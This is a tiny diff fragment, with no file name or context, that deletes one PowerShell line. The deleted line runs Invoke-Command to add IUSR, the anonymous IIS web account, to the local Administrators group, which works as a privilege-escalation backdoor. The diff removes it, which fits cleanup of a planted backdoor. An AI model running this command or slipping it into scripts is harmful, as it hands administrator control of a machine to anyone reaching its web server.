@@ -1,1 +1,0 @@
-Invoke-Command -ComputerName $env:COMPUTERNAME -ScriptBlock { net localgroup Administrators IUSR /add }
